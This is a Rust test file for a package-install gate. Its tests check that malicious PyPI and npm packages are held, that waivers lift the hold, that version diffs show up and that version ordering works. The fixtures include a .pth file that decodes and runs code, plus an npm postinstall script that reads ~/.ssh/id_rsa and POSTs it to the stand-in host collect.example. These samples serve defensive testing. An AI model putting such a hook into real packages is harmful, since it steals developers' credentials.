//! What the scanners of content find, seen from the command: held, named with file and line, lifted by
//! a waiver; and the order of versions.

#![allow(
    clippy::unwrap_used,
    clippy::print_stderr,
    reason = "tests say why they were skipped, and fail by panicking"
)]
#![allow(
    dead_code,
    missing_docs,
    unreachable_pub,
    reason = "each test uses a part of the shared support"
)]

mod support;

use serde_json::json;
use support::archives::{integrity, npm_tarball, sha256, wheel_name, wheel_with};
use support::registries::{Npm, NpmVersion, OLD, PyFile, Pypi};
use support::server::Upstream;
use support::{Sandbox, npm, pip_sandbox as start, skipped};

/// A start-up file that decodes and runs; what it decodes to is `pass`.
const START_UP: &[u8] = b"import base64, sys; exec(base64.b64decode('cGFzcwo='))\n";

#[test]
fn code_that_looks_malicious_is_held_and_a_waiver_lifts_it() {
    let up = Upstream::start();
    let index = Pypi::new(&up);
    let evil =
        wheel_with("lib", "1.0.0", &[("lib.py", b"x = 1\n"), ("lib_init.pth", START_UP)], &[]);
    let digest = sha256(&evil);
    index.add("lib", PyFile::new(&wheel_name("lib", "1.0.0"), evil, OLD));
    let Some((s, venv)) = start(&index) else { return };
    s.gate(&["pip", "install", "lib"])
        .expect(91)
        .expect_stopped(&[("lib 1.0.0", "suspicious-code")])
        .says("malware.runs-decoded")
        .says("lib_init.pth");
    assert!(venv.names().is_empty());
    let target = format!("sha256:{digest}");
    let waive = [
        "waive",
        &target,
        "--rule",
        "malware.runs-decoded",
        "--reason",
        "looked at",
        "--days",
        "3",
    ];
    s.countersign(&waive).expect(0);
    s.gate(&["pip", "install", "lib"]).expect(0).expect_admitted(&["lib 1.0.0"]);
    assert!(venv.has("lib.py"));
}

#[test]
fn an_npm_hook_that_steals_is_held_and_an_honest_one_is_not() {
    if skipped("npm", npm()) {
        return;
    }
    let up = Upstream::start();
    let registry = Npm::new(&up);
    let steal =
        b"const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n\
        require('https').request({host: 'collect.example', method: 'POST'}).end(key);\n";
    let hook = json!({"scripts": {"postinstall": "node setup.js"}});
    registry.add("thief", "1.0.0", OLD, hook.clone(), &[("setup.js", steal)]);
    registry.add("honest", "1.0.0", OLD, hook, &[("setup.js", b"console.log('thanks')\n")]);
    let mut s = Sandbox::new();
    s.env("npm_config_registry", registry.url()).env("npm_config_audit", "false");
    s.write("package.json", json!({"name": "project", "version": "1.0.0"}).to_string());
    let run = s.gate(&["npm", "install", "thief", "honest"]);
    run.expect(91).expect_stopped(&[("thief 1.0.0", "suspicious-code")]);
    run.says("malware.steals-credentials").says("package/setup.js");
    s.gate(&["npm", "install", "honest"]).expect(0).expect_admitted(&["honest 1.0.0"]);
}

#[test]
fn a_hook_that_the_index_does_not_show_is_refused() {
    if skipped("npm", npm()) {
        return;
    }
    let up = Upstream::start();
    let registry = Npm::new(&up);
    let hook = json!({"scripts": {"postinstall": "node setup.js"}});
    let tarball =
        npm_tarball("two-faced", "1.0.0", hook, &[("setup.js", b"console.log('thanks')\n")]);
    let integrity = integrity(&tarball);
    let (version, more) = ("1.0.0".to_owned(), json!({}));
    registry.add_version("two-faced", NpmVersion { version, tarball, integrity, age: OLD, more });
    let mut s = Sandbox::new();
    s.env("npm_config_registry", registry.url()).env("npm_config_audit", "false");
    s.write("package.json", json!({"name": "project", "version": "1.0.0"}).to_string());
    let run = s.gate(&["npm", "install", "two-faced"]);
    run.expect(90).expect_stopped(&[("two-faced 1.0.0", "archive-unsafe")]);
    run.says("the script `postinstall` (`node setup.js`) is not in the index");
    run.says("structure.index-scripts");
}

#[test]
fn what_a_new_version_brings_is_shown() {
    if skipped("npm", npm()) {
        return;
    }
    let up = Upstream::start();
    let registry = Npm::new(&up);
    registry.add("lib", "1.0.0", OLD, json!({}), &[]);
    let hook = json!({"scripts": {"postinstall": "node setup.js"}});
    registry.add("lib", "1.1.0", OLD, hook, &[("setup.js", b"console.log('thanks')\n")]);
    let mut s = Sandbox::new();
    s.env("npm_config_registry", registry.url()).env("npm_config_audit", "false");
    s.write("package.json", json!({"name": "project", "version": "1.0.0"}).to_string());
    s.gate(&["npm", "install", "lib@1.0.0"]).expect(0);
    let versions = ["pkg:npm/lib@1.0.0", "pkg:npm/lib@1.1.0"];
    s.countersign(&["diff", versions[0], versions[1]])
        .expect(2)
        .says("no file of pkg:npm/lib@1.1.0");
    s.gate(&["npm", "install", "lib@1.1.0"]).expect(0);
    let run = s.countersign(&["diff", versions[0], versions[1]]);
    run.expect(1).says("new: npm runs the script postinstall").says("1 added: `package/setup.js`");
    s.countersign(&["diff", versions[0], versions[0]]).expect(0).says("nothing differs");
    let json = s.countersign(&["diff", "--json", versions[0], versions[1]]);
    let report: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(report[0]["changes"][0]["kind"], "install-hook", "{report:#}");
}

#[test]
fn versions_are_in_order_or_named() {
    let s = Sandbox::new();
    let list = s.write("list", "# a list\n1.0rc1 < 1.0\n1.0 = 1.0.0\n\n2.0 > 1.0.post1\n");
    let list = list.to_str().unwrap();
    s.countersign(&["version-order", "pypi", list]).expect(0).says("3 pairs, 0 do not hold");
    let run = s.countersign(&["version-order", "npm", list]);
    run.expect(1).says("do not hold").says("no order");
    let list = s.write("debs", "1.0~rc1 < 1.0\n1.0 < 1.0-0\n1:0 > 9\n");
    let run = s.countersign(&["version-order", "debian", list.to_str().unwrap()]);
    run.expect(1).says("2: 1.0 < 1.0-0   here: =");
    let list = s.write("bad", "1.0 2.0\n");
    s.countersign(&["version-order", "cargo", list.to_str().unwrap()]).expect(2).says("line 1");
    s.countersign(&["version-order", "gem", "-"]).expect(2).says("pypi, npm, cargo, debian");
}
